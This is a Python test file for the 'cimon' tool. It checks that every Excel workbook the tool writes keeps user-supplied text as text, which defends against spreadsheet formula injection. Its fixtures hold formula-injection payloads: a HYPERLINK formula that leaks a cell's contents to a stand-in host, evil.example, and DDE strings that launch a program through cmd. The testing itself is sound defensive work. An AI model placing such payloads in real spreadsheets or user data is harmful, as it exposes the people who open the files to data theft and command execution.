"""Every workbook cimon writes keeps user text as text (issue #14, item 4).

Text a user controls — a county's name in a regions file, an expert's name, a statement, a cell
of a submitted file, a user name in the audit log — is set to formula-like strings, every writer
runs, and each workbook is opened again: no cell is a formula (openpyxl's ``data_type 'f'``),
and the hostile text is there, as text. Writers covered: the templates (department, county,
combined, expert), ``cimon data export``, ``cimon import --report``, the results workbook, the
yearly workbooks (comparison, incentives, targets, diagnosis), the robustness workbook, the
annual results workbook (also the platform's download), and the audit log export.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

import cimon
from cimon.cli import main
from cimon.intake.template import write_template
from cimon.model.regions import RegionRegistry, parse_registry
from cimon.safe import put, save, seal
from cimon.store.submissions.models import Observation
from cimon.store.submissions.services import export, import_file, store_submission

from .conftest import FW, MakeSub, rec

pytestmark = pytest.mark.django_db

CODE = "640422"  # 西吉县
NAME = '=HYPERLINK("http://evil.example/?leak="&B6,"西吉县")'
NAME_EN = "=cmd|' /C calc'!A0"
EXPERT = "=cmd|' /C calc'!A0"
STATEMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
CELL = '=HYPERLINK("http://evil.example/?leak="&B6,"点击")'
HOSTILE = (NAME, NAME_EN, EXPERT, STATEMENT, CELL)


def hostile_registry() -> RegionRegistry:
    """The bundled registry with 西吉县's names replaced by formulas (a regions file can say so)."""
    text = (resources.files("cimon.data") / "regions" / "ningxia.csv").read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        if row["code"] == CODE:
            row["name"], row["name_en"] = NAME, NAME_EN
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]))
    w.writeheader()
    w.writerows(rows)
    return parse_registry(buf.getvalue(), "hostile.csv")


def cells(path: Path) -> Iterator[Any]:
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_no_formula(path: Path, *expected: str | tuple[str, ...]) -> None:
    """No formula cell in ``path``; each of ``expected`` (or one of a tuple) is in some cell as
    text."""
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells(path) if c.data_type == "f"]
    assert not formulas, (path.name, formulas[:5])
    texts = "\n".join(str(c.value) for c in cells(path) if isinstance(c.value, str))
    for text in expected:
        options = (text,) if isinstance(text, str) else text
        assert any(t in texts for t in options), (path.name, text)


def test_put_and_seal_keep_text_as_text(tmp_path: Path) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    put(ws, 1, 1, CELL)
    ws["B1"] = "=1+1"  # written around put: seal catches it at save
    assert seal(wb) == 1
    ws["C1"] = "=2+2"
    save(wb, tmp_path / "x.xlsx")
    assert_no_formula(tmp_path / "x.xlsx", CELL, "=1+1", "=2+2")
    assert load_workbook(tmp_path / "x.xlsx").active["A1"].value == CELL  # exactly, no apostrophe


def test_templates(tmp_path: Path) -> None:
    reg = hostile_registry()
    for kind, kw in (
        ("department", {"department": "统计局"}),
        ("county", {"region": CODE}),
        ("combined", {}),
        ("expert", {"expert": EXPERT}),
    ):
        path = write_template(FW, reg, 2022, tmp_path / f"{kind}.xlsx", kind=kind, **kw)
        assert_no_formula(path, NAME, *((EXPERT,) if kind == "expert" else ()))


def test_data_export_and_report(make_sub: MakeSub, tmp_path: Path, monkeypatch: Any) -> None:
    """``cimon data export`` with an expert named like a formula, then ``cimon import --report``
    of a department file whose cell holds formula text: both workbooks hold it as text; the
    exported expert sheet imports back with the same name."""
    from django.contrib.auth import get_user_model

    from cimon.intake.submission import Claim
    from cimon.model.regions import default_registry

    reg = default_registry()
    rubric = [v.code for v in FW.variables if v.kind == "rubric"]
    records = [rec(r.code, v, 3.0, expert=EXPERT) for r in reg for v in rubric]
    store_submission(
        make_sub(records, kind="expert", department="县", expert=EXPERT, file_name=CELL),
        b"expert",
    )
    claims = [Claim(CODE, 2021, rubric[0], 3.0, STATEMENT, (CELL,), "D4")]
    store_submission(
        make_sub([], kind="county", department="县", region_code=CODE, claims=claims), b"c"
    )
    paths = export(2022, FW, reg, tmp_path / "out")
    experts = [p for p in paths if p.name.startswith("专家-")]
    assert len(experts) == 1
    for path in paths:
        assert_no_formula(path)
    [own] = [p for p in paths if p.parent.name.startswith("自评-")]  # the county's self-assessment
    assert_no_formula(own, STATEMENT)
    assert_no_formula(experts[0], EXPERT)
    again = import_file(experts[0], framework=FW, registry=reg, accept_warnings=True)
    assert again.status == "duplicate" or again.status == "accepted", again.report.render()
    if again.status == "accepted":
        names = set(
            Observation.objects.filter(submission_id=again.submission_id).values_list(
                "expert", flat=True
            )
        )
        # the name came back as text (the reader drops spaces in names, as for any name)
        assert names == {EXPERT.replace(" ", "")}

    monkeypatch.chdir(tmp_path)
    get_user_model().objects.create_user("王会计")
    dept = write_template(FW, reg, 2022, tmp_path / "统计局.xlsx", department="统计局")
    wb = load_workbook(dept)
    put(wb["统计局"], 7, 4, CELL)  # a clerk typed formula text into a value cell
    wb.save(dept)
    r = CliRunner().invoke(
        main,
        ["import", str(dept), "--user", "王会计", "--report", "report.xlsx"],
        catch_exceptions=False,
    )
    assert r.exit_code == 2 and "value.not_number" in r.output, r.output
    assert_no_formula(tmp_path / "report.xlsx", CELL)


@pytest.fixture(scope="module")
def runs() -> dict[int, Any]:
    return cimon.evaluate_years(FW, cimon.demo_panel(), [2022, 2023], regions=hostile_registry())


def test_results_and_yearly_workbooks(runs: dict[int, Any], tmp_path: Path) -> None:
    from cimon.analysis.compare import compare_runs
    from cimon.analysis.diagnose import diagnose
    from cimon.analysis.incentives import incentives_for_runs
    from cimon.analysis.ledger import allocations_from_awards, check_ledger
    from cimon.analysis.rules import load_rules
    from cimon.analysis.targets import load_province_targets, province_progress
    from cimon.reports.excel import write_results
    from cimon.reports.yearly_excel import (
        write_comparison,
        write_diagnosis,
        write_incentives,
        write_targets,
    )

    for lang in ("zh", "en"):
        path = write_results(runs[2023], tmp_path / f"r-{lang}.xlsx", lang)
        assert_no_formula(path, (NAME, NAME_EN))
    comparison = compare_runs(runs[2022], runs[2023])
    assert_no_formula(write_comparison(comparison, tmp_path / "c.xlsx"), NAME)
    rules = load_rules()
    owed = incentives_for_runs(runs, rules)
    ledger = check_ledger(allocations_from_awards(owed), [])
    path = write_incentives(
        owed[2023], rules, 2023, tmp_path / "i.xlsx", ledger=ledger, run=runs[2023]
    )
    assert_no_formula(path)
    goal = load_province_targets()
    rows = province_progress(goal, {y: r.class_counts() for y, r in runs.items()})
    assert_no_formula(write_targets(tmp_path / "t.xlsx", "zh", (goal, rows)))
    d = diagnose(runs[2023], CODE)
    assert_no_formula(write_diagnosis(d, runs[2023], tmp_path / "d.xlsx"), NAME)


def test_robustness_and_annual_results(runs: dict[int, Any], tmp_path: Path) -> None:
    from cimon.analysis.assumptions import load_assumptions
    from cimon.analysis.rules import load_rules
    from cimon.analysis.uncertainty import monte_carlo
    from cimon.reports.annual.content import build_content
    from cimon.reports.annual.results_excel import write_results_workbook
    from cimon.reports.robustness import write_robustness

    res = monte_carlo(runs[2023], load_assumptions("default"), 20, 1, runs[2022], load_rules())
    assert_no_formula(write_robustness(res, tmp_path / "rob.xlsx"), NAME)
    content = build_content(runs, 2023)
    for lang in ("zh", "en"):
        path = write_results_workbook(content, tmp_path / f"annual-{lang}.xlsx", lang)
        assert_no_formula(path, (NAME, NAME_EN))


def test_audit_export(tmp_path: Path) -> None:
    from cimon.store.audit import record, to_csv, to_xlsx
    from cimon.store.submissions.models import AuditEvent

    record(None, "import.accepted", "submission", CELL, file=CELL, user_text=EXPERT)
    AuditEvent.objects.filter(object_id=CELL).update(user=EXPERT)
    path = tmp_path / "audit.xlsx"
    path.write_bytes(to_xlsx(AuditEvent.objects.all()))
    assert_no_formula(path, CELL, EXPERT)
    text = to_csv(AuditEvent.objects.all()).decode("utf-8-sig")
    assert f"'{EXPERT}" in text  # CSV has no cell types: an apostrophe in front
